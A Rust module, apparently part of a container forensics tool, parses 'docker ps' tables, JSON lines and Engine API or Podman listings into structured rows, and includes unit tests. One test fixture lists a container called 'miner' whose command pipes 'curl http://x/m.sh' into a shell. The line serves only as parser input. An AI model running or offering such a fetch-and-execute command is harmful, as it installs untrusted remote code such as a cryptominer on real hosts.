//! `docker ps` listings (`ps`, `ps -a`, `--no-trunc`, `--format table ...`, `--format json`
//! / `{{json .}}` lines, and the Engine API's `GET /containers/json` array). Table columns are cut at the header's positions (counted in
//! characters, as Go's tabwriter aligns them), since values hold single spaces.

use std::io::Read;

use serde::Serialize;
use serde_json::Value;

use crate::evidence::Artifact;
use crate::ingest::inspect::{parse_port_list, PortMapping};
use crate::ingest::stats::{split_cells, BoundedLines};
use crate::model::{Diagnostic, Locator, Timestamp};

/// One `docker ps` row.
#[derive(Clone, Debug, Default, Serialize)]
pub struct PsRow {
    pub container_id: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub image: Option<String>,
    /// The command as listed (quotes removed; `…` marks truncation without `--no-trunc`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub command: Option<String>,
    /// `CREATED` as shown (`2 hours ago`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub created: Option<String>,
    /// Absolute creation time (`CreatedAt`, JSON or `CREATED AT` column).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub created_at: Option<Timestamp>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub status: Option<String>,
    /// `running`, `exited`, `created`, `paused`, `restarting`, `dead`, `removing`.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub state: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub exit_code: Option<i64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub health: Option<String>,
    pub ports: Vec<PortMapping>,
    pub names: Vec<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub size: Option<String>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub networks: Vec<String>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub mounts: Vec<String>,
    pub locator: Locator,
}

impl PsRow {
    /// The first name, else the id.
    pub fn handle(&self) -> &str {
        self.names.first().map(String::as_str).unwrap_or(&self.container_id)
    }

    /// True when the row says the container is up.
    pub fn is_running(&self) -> bool {
        matches!(self.state.as_deref(), Some("running" | "paused" | "restarting"))
    }
}

/// Largest Engine API listing document parsed (it is read whole to parse it as JSON).
const MAX_API_LISTING: u64 = 64 << 20;

/// Parse a ps listing artifact.
pub(crate) fn parse(artifact: &Artifact) -> (Vec<PsRow>, Vec<Diagnostic>) {
    let loc = artifact.locator();
    let mut head = [0u8; 256];
    let n = match artifact.open().and_then(|mut r| read_some(&mut r, &mut head)) {
        Ok(n) => n,
        Err(e) => return (vec![], vec![Diagnostic::error(loc, format!("cannot open: {e}"))]),
    };
    let start = head[..n].strip_prefix(b"\xef\xbb\xbf").unwrap_or(&head[..n]);
    if start.trim_ascii_start().starts_with(b"[") {
        return match artifact.open() {
            Ok(r) => parse_api_listing(r, &loc),
            Err(e) => (vec![], vec![Diagnostic::error(loc, format!("cannot open: {e}"))]),
        };
    }
    match artifact.open() {
        Ok(r) => parse_reader(r, &loc),
        Err(e) => (vec![], vec![Diagnostic::error(loc, format!("cannot open: {e}"))]),
    }
}

fn read_some(r: &mut impl Read, buf: &mut [u8]) -> std::io::Result<usize> {
    let mut got = 0;
    while got < buf.len() {
        match r.read(&mut buf[got..])? {
            0 => break,
            k => got += k,
        }
    }
    Ok(got)
}

/// The Engine API's `GET /containers/json` body (what `docker ps` asks the daemon for): a
/// JSON array of listing objects (`Id`, `Names`, `Image`, `Command`, `Created` in Unix
/// seconds, `Ports` objects, `State`, `Status`, `Mounts`, `NetworkSettings.Networks`). A
/// listing is not an inspect: it has no `Config`, no privileges, so it gives rows, never
/// containers.
pub(crate) fn parse_api_listing(reader: impl Read, loc: &Locator) -> (Vec<PsRow>, Vec<Diagnostic>) {
    let mut bytes = vec![];
    if let Err(e) = reader.take(MAX_API_LISTING + 1).read_to_end(&mut bytes) {
        return (vec![], vec![Diagnostic::error(loc.clone(), format!("read error: {e}"))]);
    }
    if bytes.len() as u64 > MAX_API_LISTING {
        return (
            vec![],
            vec![Diagnostic::error(
                loc.clone(),
                format!("container listing larger than {} MiB; not parsed", MAX_API_LISTING >> 20),
            )],
        );
    }
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(&bytes);
    let items = match serde_json::from_slice::<Value>(bytes) {
        Ok(Value::Array(items)) => items,
        Ok(_) => {
            return (vec![], vec![Diagnostic::error(loc.clone(), "container listing is not a JSON array")])
        }
        Err(e) => {
            return (
                vec![],
                vec![Diagnostic::error(
                    loc.clone().with_line(e.line() as u64),
                    format!("invalid container listing JSON at line {} column {}: {e}", e.line(), e.column()),
                )],
            )
        }
    };
    let mut rows = vec![];
    let mut diags = vec![];
    for (i, item) in items.iter().enumerate() {
        match item {
            Value::Object(o) => rows.push(api_row(o, loc.clone())),
            _ => diags.push(Diagnostic::warning(
                loc.clone(),
                format!("listing element #{i} is not an object; skipped"),
            )),
        }
    }
    (rows, diags)
}

/// One `/containers/json` object as a row.
fn api_row(o: &serde_json::Map<String, Value>, at: Locator) -> PsRow {
    let s = |k: &str| o.get(k).and_then(Value::as_str).filter(|v| !v.is_empty()).map(str::to_string);
    // Podman's `ps --format json` is the same listing with `Command` as a list.
    let command = s("Command").or_else(|| {
        let parts: Vec<&str> = o.get("Command")?.as_array()?.iter().filter_map(Value::as_str).collect();
        (!parts.is_empty()).then(|| parts.join(" "))
    });
    let mut row = PsRow {
        container_id: s("Id").unwrap_or_default(),
        image: s("Image"),
        command,
        created_at: o.get("Created").and_then(Value::as_i64).map(|t| Timestamp::from_unix(t, 0)),
        names: o
            .get("Names")
            .and_then(Value::as_array)
            .map(|n| {
                n.iter().filter_map(Value::as_str).map(|x| x.trim_start_matches('/').to_string()).collect()
            })
            .unwrap_or_default(),
        networks: o
            .get("NetworkSettings")
            .and_then(|n| n.get("Networks"))
            .and_then(Value::as_object)
            .map(|n| n.keys().cloned().collect())
            .unwrap_or_default(),
        mounts: o
            .get("Mounts")
            .and_then(Value::as_array)
            .map(|m| {
                m.iter()
                    .filter_map(|m| {
                        let src = m.get("Name").or_else(|| m.get("Source")).and_then(Value::as_str)?;
                        let dst = m.get("Destination").and_then(Value::as_str).unwrap_or("");
                        Some(format!("{src}:{dst}"))
                    })
                    .collect()
            })
            .unwrap_or_default(),
        size: o.get("SizeRw").and_then(Value::as_i64).map(|b| format!("{b}B")),
        locator: at,
        ..Default::default()
    };
    if let Some(ports) = o.get("Ports").and_then(Value::as_array) {
        // Docker: `IP`, `PrivatePort`, `PublicPort`, `Type`; Podman: `host_ip`,
        // `container_port`, `host_port`, `protocol`.
        let field = |p: &Value, keys: &[&str]| keys.iter().find_map(|k| p.get(*k)).cloned();
        for p in ports {
            let Some(private) = field(p, &["PrivatePort", "container_port"]).and_then(|v| v.as_u64()) else {
                continue;
            };
            row.ports.push(PortMapping {
                host_ip: field(p, &["IP", "host_ip"])
                    .and_then(|v| v.as_str().map(String::from))
                    .filter(|v| !v.is_empty()),
                host_port: field(p, &["PublicPort", "host_port"])
                    .and_then(|v| v.as_u64())
                    .filter(|v| *v > 0)
                    .map(|x| x.to_string()),
                container_port: private.to_string(),
                protocol: field(p, &["Type", "protocol"])
                    .and_then(|v| v.as_str().map(String::from))
                    .unwrap_or_else(|| "tcp".into()),
            });
        }
    }
    set_status(&mut row, s("Status"), s("State"));
    row
}

/// Column headers `docker ps` prints, also for `--format "table {{.Names}}\t{{.Ports}}..."`.
const COLUMNS: &[&str] = &[
    "CONTAINER ID",
    "IMAGE",
    "COMMAND",
    "CREATED",
    "CREATED AT",
    "RUNNING FOR",
    "STATUS",
    "STATE",
    "PORTS",
    "NAMES",
    "SIZE",
    "LABELS",
    "MOUNTS",
    "NETWORKS",
    "LOCAL VOLUMES",
    "PLATFORM",
];

/// A table header: column names and the character position each starts at.
struct Header {
    cols: Vec<(String, usize)>,
}

impl Header {
    fn parse(line: &str) -> Option<Header> {
        let cells = cells_with_pos(line);
        let has = |want: &str| cells.iter().any(|(c, _)| c.eq_ignore_ascii_case(want));
        let known = cells.iter().all(|(c, _)| COLUMNS.iter().any(|k| c.eq_ignore_ascii_case(k)));
        (known && (has("CONTAINER ID") || has("NAMES")))
            .then(|| Header { cols: cells.into_iter().map(|(c, p)| (c.to_ascii_uppercase(), p)).collect() })
    }

    /// Cut `line` at the header's positions; None when a value runs across a boundary.
    fn cut(&self, line: &str) -> Option<Vec<String>> {
        let chars: Vec<char> = line.chars().collect();
        let mut out = vec![];
        for (i, (_, start)) in self.cols.iter().enumerate() {
            let end = self.cols.get(i + 1).map_or(chars.len(), |(_, s)| *s).min(chars.len());
            let start = (*start).min(chars.len());
            if start > 0 && start < chars.len() && chars[start - 1] != ' ' && chars[start] != ' ' {
                return None;
            }
            out.push(chars[start..end.max(start)].iter().collect::<String>().trim().to_string());
        }
        Some(out)
    }
}

/// Cells separated by 2+ spaces, with their starting character position.
fn cells_with_pos(line: &str) -> Vec<(String, usize)> {
    let mut out = vec![];
    let mut pos = 0usize;
    let chars: Vec<char> = line.chars().collect();
    while pos < chars.len() {
        while pos < chars.len() && chars[pos] == ' ' {
            pos += 1;
        }
        if pos >= chars.len() {
            break;
        }
        let start = pos;
        while pos < chars.len() && !(chars[pos] == ' ' && chars.get(pos + 1).is_none_or(|c| *c == ' ')) {
            pos += 1;
        }
        out.push((chars[start..pos].iter().collect(), start));
    }
    out
}

/// Parse a ps listing from a reader; `loc` names the artifact.
pub(crate) fn parse_reader(reader: impl Read, loc: &Locator) -> (Vec<PsRow>, Vec<Diagnostic>) {
    let mut rows = vec![];
    let mut diags = vec![];
    let mut header: Option<Header> = None;
    for line in BoundedLines::new(reader).diagnosed(loc) {
        let (n, text) = match line {
            Ok((n, t)) => (n, t.replace('\t', "    ")),
            Err(d) => {
                diags.push(d);
                continue;
            }
        };
        let at = loc.clone().with_line(n);
        let line = text.as_str();
        if line.trim().is_empty() {
            continue;
        }
        if line.trim_start().starts_with('{') {
            match serde_json::from_str::<Value>(line) {
                Ok(Value::Object(o)) => rows.push(json_row(&o, at)),
                Ok(_) => diags.push(Diagnostic::warning(at, "JSON line is not an object; skipped")),
                Err(e) => {
                    diags.push(Diagnostic::warning(at, format!("invalid JSON at column {}: {e}", e.column())))
                }
            }
            continue;
        }
        if let Some(h) = Header::parse(line) {
            header = Some(h);
            continue;
        }
        let Some(h) = &header else {
            diags.push(Diagnostic::warning(at, "row before any `docker ps` header; skipped"));
            continue;
        };
        // Positions first; a row whose values overflow their columns still parses when it
        // splits into exactly as many 2+-space cells as the header has.
        let cells = h.cut(line).or_else(|| {
            let c = split_cells(line);
            (c.len() == h.cols.len()).then_some(c)
        });
        match cells {
            Some(c) if plausible(h, &c) => rows.push(table_row(h, &c, at)),
            _ => diags
                .push(Diagnostic::warning(at, "row does not line up with the `docker ps` header; skipped")),
        }
    }
    (rows, diags)
}

/// A row worth keeping: a hex container id when the listing has that column, else a name.
fn plausible(h: &Header, cells: &[String]) -> bool {
    let at = |name: &str| h.cols.iter().position(|(c, _)| c == name).and_then(|i| cells.get(i));
    match at("CONTAINER ID") {
        Some(id) => id.len() >= 12 && id.bytes().all(|b| b.is_ascii_hexdigit()),
        None => at("NAMES").is_some_and(|n| !n.is_empty()),
    }
}

fn table_row(h: &Header, cells: &[String], at: Locator) -> PsRow {
    row_from(
        |title, _| {
            h.cols
                .iter()
                .position(|(c, _)| c == title)
                .and_then(|i| cells.get(i))
                .filter(|v| !v.is_empty())
                .cloned()
        },
        at,
    )
}

fn json_row(o: &serde_json::Map<String, Value>, at: Locator) -> PsRow {
    row_from(|_, key| o.get(key).and_then(Value::as_str).filter(|v| !v.is_empty()).map(str::to_string), at)
}

/// A row from a field lookup `get(table column title, --format json key)`.
fn row_from(get: impl Fn(&str, &str) -> Option<String>, at: Locator) -> PsRow {
    let mut row = PsRow {
        container_id: get("CONTAINER ID", "ID").unwrap_or_default(),
        image: get("IMAGE", "Image"),
        command: get("COMMAND", "Command").map(unquote),
        created: get("CREATED", "RunningFor"),
        created_at: get("CREATED AT", "CreatedAt").as_deref().and_then(parse_created_at),
        size: get("SIZE", "Size"),
        names: split_list(get("NAMES", "Names")),
        networks: split_list(get("NETWORKS", "Networks")),
        mounts: split_list(get("MOUNTS", "Mounts")),
        locator: at,
        ..Default::default()
    };
    row.ports = parse_port_list(&get("PORTS", "Ports").unwrap_or_default()).0;
    set_status(&mut row, get("STATUS", "Status"), get("STATE", "State"));
    row
}

fn split_list(v: Option<String>) -> Vec<String> {
    v.map(|v| v.split(',').map(|x| x.trim().to_string()).filter(|x| !x.is_empty()).collect())
        .unwrap_or_default()
}

fn unquote(s: String) -> String {
    match s.strip_prefix('"').and_then(|r| r.strip_suffix('"')) {
        Some(inner) => inner.to_string(),
        None => s,
    }
}

/// `2026-11-27 14:00:00 +0000 UTC` (Go's default time format, as `CreatedAt` shows it).
fn parse_created_at(s: &str) -> Option<Timestamp> {
    let mut parts = s.split_whitespace();
    let (date, time) = (parts.next()?, parts.next()?);
    let zone = parts.next().filter(|z| z.starts_with(['+', '-'])).unwrap_or("Z");
    Timestamp::parse_rfc3339(&format!("{date}T{time}{zone}"))
}

/// State, exit code and health from a STATUS text (`Up 2 hours (healthy)`,
/// `Exited (137) 5 minutes ago`, `Up 3 minutes (Paused)`, `Restarting (1) 2 seconds ago`).
fn set_status(row: &mut PsRow, status: Option<String>, state: Option<String>) {
    if let Some(st) = &status {
        let lower = st.to_ascii_lowercase();
        let derived = if lower.starts_with("up") {
            if lower.contains("(paused)") {
                "paused"
            } else {
                "running"
            }
        } else if lower.starts_with("exited") {
            "exited"
        } else if lower.starts_with("restarting") {
            "restarting"
        } else if lower.starts_with("created") {
            "created"
        } else if lower.starts_with("dead") {
            "dead"
        } else if lower.starts_with("removal") {
            "removing"
        } else {
            ""
        };
        if !derived.is_empty() {
            row.state = Some(derived.into());
        }
        let paren = |s: &str| -> Vec<String> {
            s.split('(')
                .skip(1)
                .filter_map(|p| p.split_once(')').map(|(x, _)| x.trim().to_string()))
                .collect()
        };
        for p in paren(st) {
            if let Ok(code) = p.parse::<i64>() {
                row.exit_code = Some(code);
            } else if let Some(h) = p.strip_prefix("health: ") {
                row.health = Some(h.to_string());
            } else if matches!(p.as_str(), "healthy" | "unhealthy") {
                row.health = Some(p);
            }
        }
    }
    if let Some(s) = state {
        row.state = Some(s.to_ascii_lowercase());
    }
    row.status = status;
}

#[cfg(test)]
mod tests {
    use super::*;

    fn loc() -> Locator {
        Locator::artifact("ps.txt")
    }

    /// Lay rows out as Go's tabwriter does for `docker ps` (cells padded to the column
    /// width plus 3 spaces; widths in characters).
    fn tabwrite(rows: &[&[&str]]) -> String {
        let cols = rows[0].len();
        let width: Vec<usize> =
            (0..cols).map(|i| rows.iter().map(|r| r[i].chars().count()).max().unwrap_or(0)).collect();
        let mut out = String::new();
        for r in rows {
            let line: String =
                r.iter().enumerate().map(|(i, c)| format!("{c:<w$}", w = width[i] + 3)).collect();
            out.push_str(line.trim_end());
            out.push('\n');
        }
        out
    }

    #[test]
    fn table_with_spaces_in_values() {
        let text = "\
CONTAINER ID   IMAGE          COMMAND                  CREATED        STATUS                      PORTS                                                                                  NAMES
4f2a9c1be0d3   tomcat:8.5     \"catalina.sh run\"        2 hours ago    Up 2 hours (healthy)        0.0.0.0:81->8080/tcp, :::81->8080/tcp                                                  web
9c1e7b2a8f00   mysql:5.7      \"docker-entrypoint.s…\"   3 days ago     Exited (137) 5 minutes ago                                                                                         db
aa00bb11cc22   app:1          \"/start\"                 3 days ago     Up 3 minutes (Paused)       0.0.0.0:8000-8010->8000-8010/tcp, 3306/tcp                                             api,web/api_link
junk
";
        let (rows, d) = parse_reader(text.as_bytes(), &loc());
        assert_eq!(rows.len(), 3, "{d:?}");
        assert_eq!(d.len(), 1);
        assert_eq!(d[0].locator.line, Some(5));
        let web = &rows[0];
        assert_eq!(web.container_id, "4f2a9c1be0d3");
        assert_eq!(web.command.as_deref(), Some("catalina.sh run"));
        assert_eq!(web.created.as_deref(), Some("2 hours ago"));
        assert_eq!(web.status.as_deref(), Some("Up 2 hours (healthy)"));
        assert_eq!((web.state.as_deref(), web.health.as_deref()), (Some("running"), Some("healthy")));
        assert_eq!(web.ports.len(), 2);
        assert_eq!(web.names, ["web"]);
        assert_eq!(web.locator.line, Some(2));
        let db = &rows[1];
        assert_eq!(db.command.as_deref(), Some("docker-entrypoint.s…"));
        assert_eq!((db.state.as_deref(), db.exit_code), (Some("exited"), Some(137)));
        assert!(db.ports.is_empty());
        assert!(!db.is_running());
        let api = &rows[2];
        assert_eq!(api.state.as_deref(), Some("paused"));
        assert_eq!(api.ports[0].host_port.as_deref(), Some("8000-8010"));
        assert_eq!(api.names, ["api", "web/api_link"]);
    }

    #[test]
    fn no_trunc_and_size_columns() {
        let id = "4f2a9c1be0d3aa55e0f1c2d3b4a5968778695a4b3c2d1e0f9a8b7c6d5e4f3a2b";
        let text = tabwrite(&[
            &["CONTAINER ID", "IMAGE", "COMMAND", "CREATED", "STATUS", "PORTS", "NAMES", "SIZE"],
            &[
                id,
                "sha256:aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44",
                "\"/bin/sh -c 'curl http://x/m.sh | sh'\"",
                "45 minutes ago",
                "Created",
                "",
                "miner",
                "0B (virtual 5.6MB)",
            ],
        ]);
        let (rows, d) = parse_reader(text.as_bytes(), &loc());
        assert!(d.is_empty(), "{d:?}");
        assert_eq!(rows[0].container_id, id);
        assert_eq!(rows[0].command.as_deref(), Some("/bin/sh -c 'curl http://x/m.sh | sh'"));
        assert_eq!(rows[0].state.as_deref(), Some("created"));
        assert_eq!(rows[0].names, ["miner"]);
        assert_eq!(rows[0].size.as_deref(), Some("0B (virtual 5.6MB)"));
    }

    #[test]
    fn json_lines() {
        let text = r#"{"Command":"\"catalina.sh run\"","CreatedAt":"2026-11-27 13:58:01 +0000 UTC","ID":"4f2a9c1be0d3","Image":"tomcat:8.5","Labels":"","LocalVolumes":"0","Mounts":"/var/run/docker.sock","Names":"web","Networks":"bridge,backend","Ports":"0.0.0.0:81->8080/tcp","RunningFor":"2 hours ago","Size":"0B","State":"running","Status":"Up 2 hours"}
{"broken"
"#;
        let (rows, d) = parse_reader(text.as_bytes(), &loc());
        assert_eq!(rows.len(), 1);
        assert_eq!(d.len(), 1);
        assert_eq!(d[0].locator.line, Some(2));
        let r = &rows[0];
        assert_eq!(r.created_at.unwrap().to_iso(), "2026-11-27T13:58:01.000000000Z");
        assert_eq!(r.networks, ["bridge", "backend"]);
        assert_eq!(r.state.as_deref(), Some("running"));
        assert!(r.ports[0].is_public());
    }

    #[test]
    fn custom_table_format_and_hostile_bytes() {
        let text = b"NAMES     PORTS                  STATUS\n\
                     dvwa      0.0.0.0:81->80/tcp     Up 2 hours\n\
                     ev\xffil     53/udp                 Exited (1) 1 hour ago\n";
        let (rows, d) = parse_reader(&text[..], &loc());
        assert!(d.is_empty(), "{d:?}");
        assert_eq!(rows[0].names, ["dvwa"]);
        assert_eq!(rows[0].ports[0].display(), "0.0.0.0:81->80/tcp");
        assert_eq!(rows[1].names, ["ev\\xffil"]);
        assert_eq!(rows[1].exit_code, Some(1));
        let long = format!("NAMES   STATUS\n{}\nweb   Up 1 hour\n", "x".repeat(2 << 20));
        let (rows, d) = parse_reader(long.as_bytes(), &loc());
        assert_eq!(rows.len(), 1);
        assert_eq!(d[0].locator.line, Some(2));
    }

    #[test]
    fn misaligned_row_falls_back_to_wide_gaps() {
        let text = "CONTAINER ID   IMAGE   COMMAND   CREATED   STATUS   PORTS   NAMES\n\
                    4f2a9c1be0d3aa   tomcat   \"sh\"   1 hour ago   Up 1 hour   80/tcp   web\n";
        let (rows, d) = parse_reader(text.as_bytes(), &loc());
        assert!(d.is_empty(), "{d:?}");
        assert_eq!(rows[0].names, ["web"]);
        assert_eq!(rows[0].ports[0].container_port, "80");
    }

    #[test]
    fn engine_api_listing() {
        let body = br#"[{"Id":"ae89","Names":["/web"],"Image":"nginx","ImageID":"sha256:1","Command":"nginx -g","Created":1554925882,
"Ports":[{"IP":"0.0.0.0","PrivatePort":80,"PublicPort":8080,"Type":"tcp"},{"PrivatePort":443,"Type":"tcp"}],
"State":"running","Status":"Up 3 days (healthy)","Mounts":[{"Type":"bind","Source":"/var/run/docker.sock","Destination":"/var/run/docker.sock"}],
"NetworkSettings":{"Networks":{"bridge":{}}}}, 7]"#;
        let (rows, diags) = parse_api_listing(&body[..], &loc());
        assert_eq!(rows.len(), 1);
        assert_eq!(diags.len(), 1, "the element that is not an object");
        let r = &rows[0];
        assert_eq!(
            (r.names[0].as_str(), r.state.as_deref(), r.health.as_deref()),
            ("web", Some("running"), Some("healthy"))
        );
        assert_eq!(r.ports.len(), 2);
        assert_eq!(r.ports[0].host_port.as_deref(), Some("8080"));
        assert!(r.ports[1].host_port.is_none());
        assert_eq!(r.mounts, ["/var/run/docker.sock:/var/run/docker.sock"]);
        assert_eq!(r.networks, ["bridge"]);
        assert_eq!(r.created_at.map(|t| t.to_iso()).as_deref(), Some("2019-04-10T19:51:22.000000000Z"));
        let (rows, diags) = parse_api_listing(&b"[{"[..], &loc());
        assert!(rows.is_empty() && diags[0].message.contains("invalid container listing JSON"));
    }

    #[test]
    fn podman_ps_json_array() {
        let body = br#"[{"AutoRemove":false,"Command":["nginx","-g","daemon off;"],"Created":1764252000,"Id":"4f2a","Image":"docker.io/library/nginx:latest","ImageID":"sha256:2","Names":["web"],"Ports":[{"host_ip":"","container_port":80,"host_port":8080,"range":1,"protocol":"tcp"}],"State":"running","Status":"Up 5 minutes"}]"#;
        let (rows, diags) = parse_api_listing(&body[..], &loc());
        assert!(diags.is_empty());
        assert_eq!(rows[0].command.as_deref(), Some("nginx -g daemon off;"));
        assert_eq!(rows[0].ports[0].host_port.as_deref(), Some("8080"));
        assert_eq!(rows[0].ports[0].container_port, "80");
        assert!(rows[0].ports[0].host_ip.is_none());
        assert!(rows[0].is_running());
    }
}
